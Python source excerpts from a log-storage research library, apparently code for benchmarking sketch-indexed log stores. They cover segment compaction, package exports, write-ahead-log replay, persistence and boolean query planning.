        for s in shards:
            segs = self.sealed_segments[s]
            if len(segs) < 2:
                continue
            k = fanin if fanin is not None else len(segs)
            assert k >= 2, "compaction fan-in must be at least 2"
            out: list[Segment] = []
            for i in range(0, len(segs), k):
                run = segs[i : i + k]
                if len(run) == 1:
                    out.append(run[0])
                else:
                    out.append(self._merge_segments(run))
                    merges += 1
            self.sealed_segments[s] = out
        self.n_compactions += merges
        if merges and self.storedir is not None:
            # atomic rewrite: flush() writes the merged sketch files + fsyncs,
            # swaps the manifest, then unlinks the replaced segment files
            # (_dirty lets a read-only reopened store through its flush guard)
            self._dirty = True
            self.flush()
        return merges

    def _merge_segments(self, run: list[Segment]) -> Segment:
        merged = MutableSketch(
            max_postings=self.sketch_config.max_postings,
            short_threshold=self.sketch_config.short_threshold,
        )
        # accumulate each token's per-segment postings arrays first, then
        # install the UNION once per token — state-identical to merging
        # incrementally (the final token→set mapping and first-seen token
        # order fully determine the sealed bytes) but skips every transient
        # intermediate list the incremental path would build and discard
        acc: dict[int, "np.ndarray | list[np.ndarray]"] = {}
        for seg in run:
            # group tokens by rank so each unique posting list decodes once
            by_rank: dict[int, list[int]] = {}
            for fp, rank in seg.reader.iter_entries():
                by_rank.setdefault(rank, []).append(fp)
            for rank, fps in by_rank.items():
                postings = seg.reader.decode_list(rank)
                for fp in fps:
                    cur = acc.get(fp)
                    if cur is None:
                        acc[fp] = postings  # decoded lists are never mutated
                    elif isinstance(cur, list):
                        cur.append(postings)
                    else:
                        acc[fp] = [cur, postings]
        from ..core.mutable_sketch import TAG_DIRECT

        for fp, got in acc.items():
            ps = np.unique(np.concatenate(got)) if isinstance(got, list) else got
            if ps.size == 1:
                merged.token_map[fp] = TAG_DIRECT | int(ps[0])
            else:
                merged._attach_list(fp, np.asarray(ps, dtype=np.int64), old_lid=None)
        new = Segment.from_sealed(
            run[0].segment_id,
            run[0].shard,
            self.sketch_config,
            seal_mutable(merged, temporary=True),
        )
        new.n_lines = sum(s.n_lines for s in run)
        new.n_bytes = sum(s.n_bytes for s in run)
        new.min_batch = min(s.min_batch for s in run if s.min_batch is not None)
        new.max_batch = max(s.max_batch for s in run if s.max_batch is not None)
        new.merged_from = sum(s.merged_from for s in run)
        return new

    # -- query -----------------------------------------------------------------------

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        return self.plan([(term, contains)])[0]

    def _plan_nbits(self) -> int:
        return self.sketch_config.max_postings

    def plan_bits(self, atoms: list[AtomKey]) -> tuple[int, list[np.ndarray | None]]:
        """Batched candidate planning as packed bitsets (the hot path).

        All atoms' token fingerprints probe each sealed segment in ONE
        vectorized call (fanned over the shared worker pool when configured);
        per-token segment unions are shared across the whole batch, and
        sealed-segment posting bitsets decode through :attr:`posting_cache`,
        so hot lists survive across query batches.  Results AND against the
        known-id mask (mutable-sketch signature collisions could otherwise
        surface ids no batch owns); ``None`` per atom means scan everything.
        """
        token_sets = [
            contains_query_tokens(t) if contains else term_query_tokens(t)
            for t, contains in atoms
        ]
        views: list[tuple[int | None, object]] = []
        for seg in self.segments():
            for v in seg.sketch_views():
                # only a sealed segment's reader is cacheable; an active
                # segment's mutable sketch + transient temp segments are not
                views.append((seg.uid if seg.sealed else None, v))
        nbits = self._plan_nbits()
        raw = plan_token_sets_bits(token_sets, views, self.posting_cache, nbits)
        _, known_mask = self.known_bits(nbits)
        return nbits, [None if b is None else b & known_mask for b in raw]

    def plan(self, atoms: list[AtomKey]) -> list[CandidateSet]:
        """Candidate batch-id lists per atom (id-list surface over
        :meth:`plan_bits`; counters/FPR accounting consume this form)."""
        _nbits, per_atom = self.plan_bits(atoms)
        everything = None
        out: list[CandidateSet] = []
        for b in per_atom:
            if b is None:
                if everything is None:
                    everything = sorted(self.known_batch_ids())
                out.append(list(everything))
            else:
                out.append(bits_to_ids(b).tolist())
        return out

    def _snapshot_planner(self) -> "tuple[Any, Iterable[int]] | None":
        """Sealed segments stay fully index-accelerated in snapshots — this is
        the always-queryable story: only the active (mutable) segments' batch
        coverage degrades to scan-always candidates (writer lock held here)."""
        sealed = [
            seg for shard in range(self.n_shards) for seg in self.sealed_segments[shard]
        ]
        scan: set[int] = set()
        for seg in self.active.values():
            scan |= seg.batch_ids
        planner = _SealedSegmentPlanner(
            sealed, self.posting_cache, self.sketch_config.max_postings
        )
        return planner, frozenset(scan)

    # -- persistence: one sketch file per sealed segment, reopened via mmap ------

    def _config(self) -> dict:
        return {
            **super()._config(),
            "n_shards": self.n_shards,
            "lines_per_segment": self.lines_per_segment,
            "bytes_per_segment": self.bytes_per_segment,
            "sketch_config": asdict(self.sketch_config),
        }

    @classmethod
    def _decode_config(cls, cfg: dict) -> dict:
        return decode_sketch_config(cfg)

    def _init_from_index(self, fragment: dict) -> None:
        self._next_file_id = fragment.get("next_file_id", 0)

    def _save_index(self, sd: "StoreDir") -> dict:
        """Persist sealed segments that aren't on disk yet.

        After a WAL replay the rebuilt segments are byte-equivalent to what an
        earlier flush persisted (ingest is deterministic in the line stream),
        so a rebuilt segment whose id + metadata match a manifest entry adopts
        the existing file instead of rewriting it.  Merged (compacted)
        segments never match — they get fresh file ids, and the files they
        replace become unreferenced and are GC'd after the manifest swap.
        """
        prev = {
            e["segment_id"]: e
            for e in decode_segment_entries(self._persisted_index.get("segments", []))
        }
        entries: list[dict] = []
        for shard in range(self.n_shards):
            for seg in self.sealed_segments[shard]:
                if seg.file is None:
                    adopt = prev.get(seg.segment_id)
                    if (
                        adopt is not None
                        and adopt["n_lines"] == seg.n_lines
                        and adopt["merged_from"] == seg.merged_from
                        and adopt["min_batch"] == seg.min_batch
                        and adopt["max_batch"] == seg.max_batch
                        and (sd.root / adopt["file"]).exists()
                    ):
                        seg.file = adopt["file"]
                    else:
                        seg.file = f"segments/seg-{self._next_file_id:08d}.sketch"
                        self._next_file_id += 1
                        sd.write_atomic(seg.file, seg.sealed_buf)
                entries.append(seg.manifest_entry())
        return {
            "segments": encode_segment_entries(entries),
            "next_segment_id": self._next_segment_id,
            "next_file_id": self._next_file_id,
        }

    def _load_index(self, sd: "StoreDir", fragment: dict) -> None:
        for entry in decode_segment_entries(fragment.get("segments", [])):
            seg = Segment.from_file(entry, self.sketch_config, sd.open_sketch(entry["file"]))
            self.sealed_segments[seg.shard].append(seg)
        self._next_segment_id = fragment.get("next_segment_id", 0)

    def _index_files(self, fragment: dict) -> list[str]:
        return [e["file"] for e in decode_segment_entries(fragment.get("segments", []))]

    # -- accounting ---------------------------------------------------------------

    def _index_bytes(self) -> int:
        return sum(seg.nbytes() for seg in self.segments())

    def _index_breakdown(self) -> dict[str, int]:
        # sum §3.3 components over every *sealed* segment sketch (active
        # segments are memory-only — their durability is the WAL)
        out = {"mphf": 0, "signatures": 0, "csf": 0, "postings": 0}
        for shard in range(self.n_shards):
            for seg in self.sealed_segments[shard]:
                for k, v in seg.reader.component_nbytes().items():
                    out[k] += v
        return out

    def segment_stats(self) -> list[dict]:
        return [
            {
                "segment_id": seg.segment_id,
                "shard": seg.shard,
                "sealed": seg.sealed,
                "n_lines": seg.n_lines,
                "n_bytes": seg.n_bytes,
                "index_bytes": seg.nbytes(),
                "merged_from": seg.merged_from,
            }
            for seg in self.segments()
        ]


STORE_CLASSES[ShardedCoprStore.name] = ShardedCoprStore
