"""Log storage substrate: tokenizer, compressed batches, store implementations.

Query the stores with the boolean AST from :mod:`repro.core.querylang`
(re-exported here): ``store.search(And(Contains("error"), Not(Term("debug"))))``.
"""

from ..core.querylang import (
    And,
    Contains,
    Not,
    Or,
    Query,
    SearchResult,
    Source,
    Term,
    matches_line,
)
from .batch import BatchWriter, SealedBatch, boyer_moore_horspool
from .csc import CscSketch
from .inverted import InvertedIndex
from .persist import StoreDir, WriteAheadLog, open_store
from .segments import Segment, ShardedCoprStore
from .store import CoprStore, CscStore, DiskUsage, InvertedStore, LogStore, STORE_CLASSES, ScanStore
from .tokenizer import contains_query_tokens, term_query_tokens, tokenize_line

__all__ = [
    "And", "BatchWriter", "Contains", "CoprStore", "CscSketch", "CscStore",
    "DiskUsage", "InvertedIndex", "InvertedStore", "LogStore", "Not", "Or",
    "Query", "STORE_CLASSES", "ScanStore", "SealedBatch", "SearchResult",
    "Segment", "ShardedCoprStore", "Source", "StoreDir", "Term",
    "WriteAheadLog", "boyer_moore_horspool", "contains_query_tokens",
    "matches_line", "open_store", "term_query_tokens", "tokenize_line",
]
