"""Log storage substrate: tokenizer, compressed batches, store implementations."""

from .batch import BatchWriter, SealedBatch, boyer_moore_horspool
from .csc import CscSketch
from .inverted import InvertedIndex
from .segments import Segment, ShardedCoprStore
from .store import CoprStore, CscStore, DiskUsage, InvertedStore, LogStore, STORE_CLASSES, ScanStore
from .tokenizer import contains_query_tokens, term_query_tokens, tokenize_line

__all__ = [
    "BatchWriter", "SealedBatch", "boyer_moore_horspool", "CscSketch",
    "InvertedIndex", "CoprStore", "CscStore", "DiskUsage", "InvertedStore",
    "LogStore", "STORE_CLASSES", "ScanStore", "Segment", "ShardedCoprStore",
    "contains_query_tokens", "term_query_tokens", "tokenize_line",
]
