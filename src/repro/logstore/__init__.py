"""Log storage substrate: tokenizer, compressed batches, store implementations.

Query the stores with the boolean AST from :mod:`repro.core.querylang`
(re-exported here): ``store.search(And(Contains("error"), Not(Term("debug"))))``.
"""

from ..core.querylang import (
    And,
    Contains,
    Not,
    Or,
    Query,
    Regex,
    SearchResult,
    Source,
    Term,
    line_matcher,
    matches_line,
)
from .batch import BatchWriter, SealedBatch, boyer_moore_horspool
from .csc import CscSketch
from .executor import (
    PostingListCache,
    ProcessSearchPool,
    configure_search_pool,
    search_workers,
)
from .inverted import InvertedIndex
from .persist import StoreDir, WriteAheadLog, open_store
from .segments import Segment, ShardedCoprStore
from .snapshot import StoreSnapshot
from .store import (
    CoprStore,
    CscStore,
    DiskUsage,
    InvertedStore,
    LogStore,
    STORE_CLASSES,
    ScanStore,
    create_store,
)
from .tokenizer import contains_query_tokens, term_query_tokens, tokenize_line

__all__ = [
    "And", "BatchWriter", "Contains", "CoprStore", "CscSketch", "CscStore",
    "DiskUsage", "InvertedIndex", "InvertedStore", "LogStore", "Not", "Or",
    "PostingListCache", "ProcessSearchPool", "Query", "Regex",
    "STORE_CLASSES", "ScanStore", "SealedBatch", "SearchResult", "Segment",
    "ShardedCoprStore", "Source", "StoreDir", "StoreSnapshot", "Term",
    "WriteAheadLog", "boyer_moore_horspool", "configure_search_pool",
    "contains_query_tokens", "create_store", "line_matcher", "matches_line",
    "open_store", "search_workers", "term_query_tokens", "tokenize_line",
]
