"""Log-store implementations benchmarked against each other (paper §5).

Common interface: ``ingest(line, source)`` → ``finish()`` →
``search(query) -> SearchResult`` for any boolean
:class:`~repro.core.querylang.Query` (matching lines after decompress +
post-filter, plus candidate/verified counters and per-stage timings).  The
search pipeline is implemented once in :class:`LogStore` on top of a
store-provided ``plan(atoms) -> list[CandidateSet]``; stores only supply the
index probe.  ``disk_usage()`` splits data vs sketch/index bytes and
``candidate_batches`` backs the error-rate measurements.

Every store also supports the durable lifecycle (docs/persistence.md):
``Store.open(path)`` attaches a :class:`~repro.logstore.persist.StoreDir`,
``flush()`` checkpoints sealed artifacts + fsyncs the WAL, ``close()``
flushes and releases.  Reopening a *finished* store is read-only and
zero-parse: sketches come back through ``ImmutableSketch.open_mmap`` and
batch payloads are mmap slices decompressed only when a query post-filters
them.  Reopening an *unfinished* store replays the WAL through the normal
ingest path, which reproduces the in-memory state exactly (ingest is
deterministic in the line stream).

``query_term`` / ``query_contains`` / ``plan_candidates`` are deprecated
shims over ``search`` / ``plan`` (see docs/query_api.md for migration);
each warns once per process.
"""

from __future__ import annotations

import itertools
import os
import warnings
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, Iterable, Sequence

import numpy as np

from ..core import CoprSketch, SketchConfig
from ..core.bitset import bits_to_ids, frozen, ids_to_bits
from ..core.hashing import fingerprint_tokens
from ..core.querylang import (
    AtomKey,
    CandidateSet,
    Contains,
    Query,
    SearchResult,
    Term,
    as_query,
    line_matcher,
)
from .batch import COMPRESSION, BatchWriter, SealedBatch
from .csc import CscSketch
from .executor import PostingListCache
from .locks import make_rlock
from .inverted import InvertedIndex
from .snapshot import StoreSnapshot, execute_search, filter_sealed_batches
if TYPE_CHECKING:
    from .linefilter import CompiledPredicate
    from .persist import StoreDir

from .kernelbridge import fingerprint_lines
from .tokenizer import (
    contains_query_tokens,
    is_single_alnum_run,
    term_query_tokens,
    tokenize_lines,
)


#: deprecation shims already emitted this process (one warning per shim, not
#: per call; tests clear this to re-assert the warning)
_WARNED: set[str] = set()

#: process-unique planner uids — posting-cache keys for a store's sealed
#: reader (a re-sealed/reopened reader gets a new uid, so stale cached
#: bitsets can never collide with the new reader's ranks)
_PLANNER_UIDS = itertools.count()


def _warn_once(key: str, message: str) -> None:
    if key in _WARNED:
        return
    _WARNED.add(key)
    warnings.warn(message, DeprecationWarning, stacklevel=3)


def decode_sketch_config(cfg: dict) -> dict:
    """Manifest config → constructor kwargs: revive the ``sketch_config``
    dict as a :class:`SketchConfig` (shared by every sketch-backed store)."""
    cfg = dict(cfg)
    if isinstance(cfg.get("sketch_config"), dict):
        cfg["sketch_config"] = SketchConfig(**cfg["sketch_config"])
    return cfg


@dataclass
class DiskUsage:
    data_bytes: int
    index_bytes: int
    raw_bytes: int

    @property
    def overhead_vs_compressed(self) -> float:
        return self.index_bytes / max(1, self.data_bytes)

    @property
    def overhead_vs_raw(self) -> float:
        return self.index_bytes / max(1, self.raw_bytes)


class LogStore:
    """Base: batch storage + post-filtering; subclasses add the index."""

    name = "base"
    uses_ngrams = True

    def __init__(
        self,
        *,
        lines_per_batch: int = 512,
        max_batches: int = 4096,
        wal_sync_interval: int = 1024,
        payload_codec: str | None = None,
    ) -> None:
        from .templates import make_codec

        # payload codec (docs/persistence.md): explicit kwarg > env override >
        # "template" default.  Recorded in the manifest config, so a reopened
        # store always seals with the codec its directory was created with.
        if payload_codec is None:
            payload_codec = os.environ.get("REPRO_PAYLOAD_CODEC", "template")
        self.payload_codec = payload_codec
        self.writer = BatchWriter(
            lines_per_batch=lines_per_batch,
            max_batches=max_batches,
            codec=make_codec(payload_codec),
        )
        self.batches: dict[int, SealedBatch] = {}
        self.max_batches = max_batches
        self.finished = False
        # writer lock (docs/concurrency.md): every mutating entry point holds
        # it; snapshot() holds it briefly to capture a consistent view.  RLock
        # because ingest → rotate → flush nests.
        self._write_lock = make_rlock(f"{type(self).__name__}._write_lock")
        # filled lazily once finished (batch inventory is immutable then)
        self._known_ids_cache: set[int] | None = None
        self._known_bits_cache: tuple[int, np.ndarray] | None = None
        self._batch_sources_cache: dict[int, str] | None = None
        # persistence (attached by open(); in-memory stores leave these unset)
        self.storedir = None
        self.wal = None
        self._wal_sync_interval = wal_sync_interval
        self._replaying = False
        self._readonly = False
        self._closed = False
        self._dirty = False  # readonly store mutated in place (compaction)
        self._persisted_batches: dict[int, dict] = {}
        self._persisted_index: dict = {}
        self._data_gen = 0

    # -- ingest ----------------------------------------------------------------

    def ingest(self, line: str, source: str = "") -> None:
        """Ingest one line — a thin shim over :meth:`ingest_many` so exactly
        one indexing code path exists (and gets real coverage)."""
        self.ingest_many([line], [source])

    def ingest_many(self, lines: "Sequence[str]", sources: "Sequence[str] | str" = "") -> None:
        """Ingest a batch of lines in one pass: one group-committed WAL
        frame (single fsync cadence), one batched tokenize+fingerprint
        sweep, and one bulk index insert per store — state- and
        byte-identical to looping :meth:`ingest`, ~an order of magnitude
        faster (``benchmarks/bench_ingest.py``).

        ``sources`` is either one string for the whole batch or a sequence
        aligned with ``lines``.
        """
        lines = list(lines)
        if isinstance(sources, str):
            sources = [sources] * len(lines)
        else:
            sources = list(sources)
        if len(sources) != len(lines):
            raise ValueError(
                f"ingest_many: {len(lines)} lines but {len(sources)} sources"
            )
        if not lines:
            return
        with self._write_lock:
            self._wal_record_many(lines, sources)
            self._ingest_batch(lines, sources)

    def _wal_record_many(self, lines: list[str], sources: list[str]) -> None:
        if self._readonly:
            raise RuntimeError(
                "store was reopened finished — the on-disk layout is immutable; "
                "build a new store directory to ingest more"
            )
        if self.wal is not None and not self._replaying:
            if len(lines) == 1:
                # keep single-line ingests in the legacy one-record framing
                self.wal.append(lines[0], sources[0])
            else:
                self.wal.append_batch(lines, sources)

    def _ingest_batch(self, lines: list[str], sources: list[str]) -> None:
        """Post-WAL batch ingest under the write lock: allocate batch ids in
        stream order, then bulk-index.  ``ShardedCoprStore`` overrides this
        to interleave segment rotation (and its flush points) exactly where
        the looped path would."""
        bids = [self.writer.add(line, group=src) for line, src in zip(lines, sources)]
        self._index_lines(lines, bids)

    def _index_lines(self, lines: list[str], bids: list[int]) -> None:
        raise NotImplementedError

    def finish(self) -> None:
        with self._write_lock:
            if self.finished:
                return
            for b in self.writer.finish():
                self.batches[b.batch_id] = b
            self._finish_index()
            self.finished = True

    def _finish_index(self) -> None:
        pass

    # -- durable lifecycle: open(path) / flush() / close() (docs/persistence.md) ---

    @classmethod
    def open(cls, path: "str | Path", **kw: Any) -> "LogStore":
        """Open (or create) the persistent store at ``path``.

        With an existing manifest, the stored config wins over ``kw`` (the
        on-disk layout and WAL replay depend on it); a finished store loads
        read-only via mmap, an unfinished one replays its WAL through the
        normal ingest path and keeps accepting lines.
        """
        from .persist import StoreDir

        sd = StoreDir(path)
        man = sd.load_manifest()
        if man is not None:
            if man["store"] != cls.name:
                raise ValueError(
                    f"{path} holds a {man['store']!r} store, not {cls.name!r} "
                    f"— use repro.logstore.open_store()"
                )
            if man["compression"] != COMPRESSION:
                raise ValueError(
                    f"store written with {man['compression']!r} compression but "
                    f"this process only has {COMPRESSION!r}"
                )
            cfg = cls._decode_config(man["config"])
            # manifests written before the codec seam (format v1) predate
            # template payloads — their batches are raw by construction
            cfg.setdefault("payload_codec", "raw")
            kw = {**kw, **cfg}
        inst = cls(**kw)
        inst._attach(sd, man)
        return inst

    def _attach(self, sd: "StoreDir", man: dict | None) -> None:  # repro: allow[R1] construction-time: runs inside open() before the instance is published to any other thread
        from .persist import WriteAheadLog, decode_batch_entries

        self.storedir = sd
        if man is not None:
            self._persisted_batches = {e["id"]: e for e in decode_batch_entries(man)}
            self._persisted_index = man.get("index", {})
            self._data_gen = man["counters"]["next_data_gen"]
            self._init_from_index(self._persisted_index)
        if man is not None and man["finished"]:
            # read path: mmap everything, deserialize nothing
            self.finished = True
            self._readonly = True
            self.writer.restore_next_id(man["counters"]["next_batch_id"])
            for e in self._persisted_batches.values():
                tfile = e.get("tfile")
                self.batches[e["id"]] = SealedBatch(
                    batch_id=e["id"],
                    n_lines=e["n_lines"],
                    raw_bytes=e["raw_bytes"],
                    payload=sd.payload_slice(e["file"], e["offset"], e["length"]),
                    group=e["group"],
                    codec="raw" if tfile is None else "template",
                    tpl=(
                        None
                        if tfile is None
                        else sd.payload_slice(tfile, e["toffset"], e["tlength"])
                    ),
                )
            self._load_index(sd, self._persisted_index)
            self._reclaim_after_finish(sd)
            return
        # unfinished (or brand-new): the WAL is the durable tail — replay it
        # through normal ingest (deterministic → exact same state), then keep
        # appending new records to it
        self.wal = WriteAheadLog(sd.wal_path, sync_interval=self._wal_sync_interval)
        self._replaying = True
        try:
            # streaming, in bounded chunks: the batched ingest path is
            # state-identical to per-line replay (ingest is deterministic in
            # the line stream) and recovers large WALs ~10× faster
            buf_lines: list[str] = []
            buf_sources: list[str] = []
            for line, source in self.wal.replay():
                buf_lines.append(line)
                buf_sources.append(source)
                if len(buf_lines) >= 4096:
                    self.ingest_many(buf_lines, buf_sources)
                    buf_lines, buf_sources = [], []
            if buf_lines:
                self.ingest_many(buf_lines, buf_sources)
        finally:
            self._replaying = False
        sd.bytes_read += self.wal.valid_bytes
        # drop any torn/corrupt tail NOW — appends go to EOF, so new records
        # written behind surviving garbage would be lost to every future replay
        self.wal.trim_torn_tail()

    def _reclaim_after_finish(self, sd: "StoreDir") -> None:
        """One-time reclaim when opening a finished store: a crash between the
        finished-manifest publish and the WAL truncation / gc in flush()
        leaves the full-stream WAL and orphaned artifacts behind, and no
        later flush would run (reads never write).  Best-effort — on
        read-only media the store simply keeps the extra bytes."""
        try:
            if sd.wal_path.exists() and sd.wal_path.stat().st_size > 0:
                with open(sd.wal_path, "r+b") as f:
                    f.truncate(0)
            referenced = {e["file"] for e in self._persisted_batches.values()}
            referenced.update(
                e["tfile"] for e in self._persisted_batches.values() if e.get("tfile")
            )
            referenced.update(self._index_files(self._persisted_index))
            sd.gc(referenced)
        except OSError:
            pass

    def flush(self) -> None:
        """Durability checkpoint: fsync the WAL, persist sealed-but-unpersisted
        artifacts (batch payloads, sealed sketches), swap the manifest
        atomically, then unlink files the new manifest no longer references.
        Once the store is finished the manifest captures the whole stream and
        the WAL truncates to empty."""
        with self._write_lock:
            self._flush_locked()

    def _flush_locked(self) -> None:
        if self.storedir is None or self._closed:
            return
        if self._readonly and not self._dirty:
            return  # pure reads must never touch the directory (ro media)
        from .persist import FORMAT_VERSION, encode_batch_entries

        sd = self.storedir
        if self.wal is not None:
            self.wal.sync()
        # sealed batch inventory: published (post-finish) + still in the writer
        inventory = {b.batch_id: b for b in self.writer.sealed}
        inventory.update(self.batches)
        entries: dict[int, dict] = {}
        to_write: list[SealedBatch] = []
        for bid in sorted(inventory):
            b = inventory[bid]
            prev = self._persisted_batches.get(bid)
            if (
                prev is not None
                and prev["n_lines"] == b.n_lines
                and prev["raw_bytes"] == b.raw_bytes
                and prev["group"] == b.group
                and prev["length"] == len(b.payload)
                and prev.get("tlength", 0) == (0 if b.tpl is None else len(b.tpl))
            ):
                entries[bid] = prev  # already on disk (adopted after replay)
            else:
                to_write.append(b)
        if to_write:
            gen = self._data_gen
            self._data_gen += 1
            raw_batches = [b for b in to_write if b.tpl is None]
            tpl_batches = [b for b in to_write if b.tpl is not None]
            if raw_batches:
                rel = f"data/batches-{gen:06d}.dat"
                buf = bytearray()
                for b in raw_batches:
                    off = len(buf)
                    buf += b.payload
                    entries[b.batch_id] = {
                        "id": b.batch_id,
                        "file": rel,
                        "offset": off,
                        "length": len(b.payload),
                        "n_lines": b.n_lines,
                        "raw_bytes": b.raw_bytes,
                        "group": b.group,
                        "tfile": None,
                        "toffset": 0,
                        "tlength": 0,
                    }
                sd.write_atomic(rel, bytes(buf))
            if tpl_batches:
                # Template dictionaries converge per source, so most batches
                # reference a blob that is already on disk — dedup against
                # every persisted slice plus this flush's own writes, and only
                # append genuinely new dictionaries.
                refs: dict[bytes, tuple[str, int, int]] = {}
                for e in entries.values():
                    if e.get("tfile"):
                        blob = bytes(
                            sd.payload_slice(e["tfile"], e["toffset"], e["tlength"])
                        )
                        refs.setdefault(blob, (e["tfile"], e["toffset"], e["tlength"]))
                trel = f"payloads/gen-{gen:06d}.tpl"
                vrel = f"payloads/gen-{gen:06d}.vars"
                tbuf = bytearray()
                vbuf = bytearray()
                for b in tpl_batches:
                    blob = bytes(b.tpl)  # type: ignore[arg-type]
                    ref = refs.get(blob)
                    if ref is None:
                        ref = refs[blob] = (trel, len(tbuf), len(blob))
                        tbuf += blob
                    off = len(vbuf)
                    vbuf += b.payload
                    entries[b.batch_id] = {
                        "id": b.batch_id,
                        "file": vrel,
                        "offset": off,
                        "length": len(b.payload),
                        "n_lines": b.n_lines,
                        "raw_bytes": b.raw_bytes,
                        "group": b.group,
                        "tfile": ref[0],
                        "toffset": ref[1],
                        "tlength": ref[2],
                    }
                if tbuf:
                    sd.write_atomic(trel, bytes(tbuf))
                sd.write_atomic(vrel, bytes(vbuf))
        fragment = self._save_index(sd)
        man = {
            "format_version": FORMAT_VERSION,
            "store": self.name,
            "compression": COMPRESSION,
            "finished": self.finished,
            "config": self._config(),
            "counters": {
                "next_batch_id": self.writer.n_batches,
                "next_data_gen": self._data_gen,
            },
            **encode_batch_entries(list(entries.values())),
            "index": fragment,
        }
        sd.save_manifest(man)
        self._persisted_batches = entries
        self._persisted_index = fragment
        if self.finished and self.wal is not None:
            self.wal.truncate()
        referenced = {e["file"] for e in entries.values()}
        referenced.update(e["tfile"] for e in entries.values() if e.get("tfile"))
        referenced.update(self._index_files(fragment))
        sd.gc(referenced)
        self._dirty = False

    def close(self) -> None:
        """Flush, then release the WAL handle and every mmap.  The object is
        dead afterwards — reopen with ``open(path)``."""
        with self._write_lock:
            if self.storedir is None or self._closed:
                return
            self.flush()
            if self.wal is not None:
                self.wal.close()
                self.wal = None
            self.storedir.release()
            self._closed = True

    # subclass hooks: persist/load the store-specific index artifacts ----------

    def _config(self) -> dict:
        """JSON-safe constructor kwargs (stored in the manifest; the stored
        values win on reopen so WAL replay and artifact layout stay stable)."""
        return {
            "lines_per_batch": self.writer.lines_per_batch,
            "max_batches": self.max_batches,
            "payload_codec": self.payload_codec,
        }

    @classmethod
    def _decode_config(cls, cfg: dict) -> dict:
        return dict(cfg)

    def _save_index(self, sd: "StoreDir") -> dict:
        """Write sealed index artifacts (atomically); return the manifest
        ``index`` fragment.  Base stores have none."""
        return {}

    def _load_index(self, sd: "StoreDir", fragment: dict) -> None:
        """Load index artifacts of a finished store (mmap where possible)."""

    def _index_files(self, fragment: dict) -> list[str]:
        """Artifact files the fragment references (manifest GC liveness)."""
        return []

    def _init_from_index(self, fragment: dict) -> None:
        """Restore index-related counters before WAL replay / loading."""

    # -- query: Query → Plan → Result (docs/query_api.md) --------------------------

    def candidate_batches(self, term: str, *, contains: bool) -> list[int]:
        """Candidate batch ids for one planner atom (index probe)."""
        raise NotImplementedError

    def plan(self, atoms: list[AtomKey]) -> list[CandidateSet]:
        """Candidate batch ids per ``(text, contains)`` atom.

        Base implementation probes atoms one at a time; sketch stores
        override with the batched Algorithm-3 planner (one vectorized probe,
        shared posting-list decodes).  Every returned id must exist in the
        store (clamped to :meth:`known_batch_ids`) and every batch that can
        contain a match must be included — supersets only, no false negatives.
        """
        return [self.candidate_batches(t, contains=c) for t, c in atoms]

    def plan_bits(self, atoms: list[AtomKey]) -> tuple[int, list] | None:
        """Packed-bitset planning surface: ``(nbits, per-atom bitsets)``.

        Sketch-backed stores return candidate sets as packed-uint64 bitsets
        of width ``nbits`` (already clamped to the known-id mask; ``None``
        per atom means scan everything) so ``execute_search`` can run the
        boolean candidate algebra as word ops.  Base stores have no bitset
        planner — returning ``None`` routes the pipeline through the id-list
        :meth:`plan`.
        """
        return None

    def _plan_nbits(self) -> int:
        """Bitset width for this store's candidate sets (the posting space —
        sketch stores may decode ids past ``max_batches``)."""
        return self.max_batches

    def known_bits(self, nbits: int) -> tuple[int, np.ndarray]:
        """:meth:`known_batch_ids` as a packed bitset of width ``nbits`` —
        the clamp mask and NOT-complement universe of the bitset pipeline.
        Cached once finished (read-only), rebuilt per call mid-ingest."""
        cached = self._known_bits_cache
        if self.finished and cached is not None and cached[0] == nbits:
            return cached
        out = (nbits, frozen(ids_to_bits(self.known_batch_ids(), nbits)))
        if self.finished:
            self._known_bits_cache = out  # repro: allow[R1] benign idempotent cache: only written once finished (index frozen), racing writers store equal values
        return out

    def unbounded_atoms(self, keys: list[AtomKey]) -> set[AtomKey]:
        """Atoms this store's planner cannot bound — they degrade to a full
        scan, surfaced as ``SearchResult.fallback_scan``.

        Base rule (every token/gram-indexed store): an atom with no
        guaranteed-indexed token (``planner_tokens`` empty, e.g.
        ``Contains("ab")`` — boundary runs too short for any rule-6–8 gram).
        Stores whose planner works differently override (InvertedStore bounds
        by lexicon, ScanStore bounds nothing).
        """
        from .tokenizer import planner_tokens

        return {key for key in keys if not planner_tokens(*key)}

    def known_batch_ids(self) -> set[int]:
        """Every batch id a query may touch: published + still in the writer.

        This is the NOT-complement universe and the clamp for sketch false
        positives (ids the sketch invents but no batch owns).  Cached once
        the store is finished (treat the result as read-only); mid-ingest it
        is rebuilt per call because the writer keeps allocating ids.
        """
        if self.finished:
            if self._known_ids_cache is None:
                self._known_ids_cache = set(self.batches)  # repro: allow[R1] benign idempotent cache: only written once finished, racing writers store equal values
            return self._known_ids_cache
        return set(self.batches) | self.writer.known_ids()

    def batch_sources(self) -> dict[int, str]:
        """batch id → source/group name (batches are single-source).

        Cached once finished (read-only), rebuilt per call mid-ingest.
        """
        if self.finished:
            if self._batch_sources_cache is None:
                self._batch_sources_cache = {  # repro: allow[R1] benign idempotent cache: only written once finished, racing writers store equal values
                    bid: b.group for bid, b in self.batches.items()
                }
            return self._batch_sources_cache
        src = {bid: b.group for bid, b in self.batches.items()}
        src.update(self.writer.id_groups())
        return src

    def search(self, query: Query | str) -> SearchResult:
        """Evaluate one boolean query exactly; see :meth:`search_many`.

        ``query`` is any :class:`~repro.core.querylang.Query` (a bare string
        means ``Contains``); the result carries the matching lines plus
        candidate/verified counters and per-stage timings.

        >>> from repro.logstore import create_store
        >>> from repro.core.querylang import And, Contains, Not, Term
        >>> st = create_store("copr", lines_per_batch=2)
        >>> st.ingest("ERROR: disk full on /dev/sda1", "db")
        >>> st.ingest("INFO: backup finished", "db")
        >>> st.finish()
        >>> st.search(And(Contains("disk"), Not(Term("info")))).lines
        ['ERROR: disk full on /dev/sda1']
        """
        return self.search_many([query])[0]

    def search_many(self, queries: list[Query | str]) -> list[SearchResult]:
        """Evaluate a batch of boolean queries: one plan, exact results.

        All queries' Term/Contains leaves are deduplicated and planned in a
        single :meth:`plan` call (sketch stores turn that into one vectorized
        probe with shared decodes); each query then combines its atoms'
        candidate sets through the boolean algebra and post-filters candidate
        batches with the exact line predicate.  Results are exact — the
        candidate phase only decides which batches get decompressed.

        This live path reads mutable index state for full mid-ingest
        precision and is NOT safe against concurrent ``ingest()``; for
        searches concurrent with writers, use :meth:`snapshot` (the
        :class:`~repro.logstore.snapshot.StoreSnapshot` shares this exact
        pipeline, lock-free).

